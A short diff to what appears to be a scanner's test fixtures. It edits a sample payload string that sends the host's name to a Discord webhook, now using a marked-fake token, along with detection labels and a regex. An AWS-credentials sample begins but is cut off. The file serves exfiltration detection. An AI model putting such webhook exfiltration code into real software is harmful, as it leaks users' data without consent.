@@ -27,10 +27,10 @@ PAYLOADS = {
     "hook": (
         'import json, socket, urllib.request\n'
         'urllib.request.urlopen(urllib.request.Request('
-        '"https://discord.com/api/webhooks/000000000000000000/XXXX", '
+        '"https://discord.com/api/webhooks/112233445566778899/inert-ferret-corpus-token_not-real-0123", '
         'data=json.dumps({"content": socket.gethostname()}).encode(), '
         'headers={"Content-Type": "application/json"}))\n',
-        ["webhook-endpoint", "sensitive-data-sent"], r"discord\.com/api/webhooks/0+/XXXX"),
+        ["webhook-endpoint", "sensitive-data-sent"], r"discord\.com/api/webhooks/112233445566778899/inert"),
     # aws credentials via requests
     "aws": (
         'import os, requests\n'
